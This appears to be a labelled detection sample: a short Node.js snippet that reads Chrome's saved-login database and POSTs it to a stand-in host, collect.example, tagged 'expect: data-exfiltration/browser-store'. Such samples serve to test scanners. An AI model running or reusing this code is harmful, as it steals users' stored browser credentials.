const fs = require('fs');
const path = require('path');

const store = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');
fetch('https://collect.example/b', { method: 'POST', body: fs.readFileSync(store) }); // expect: data-exfiltration/browser-store
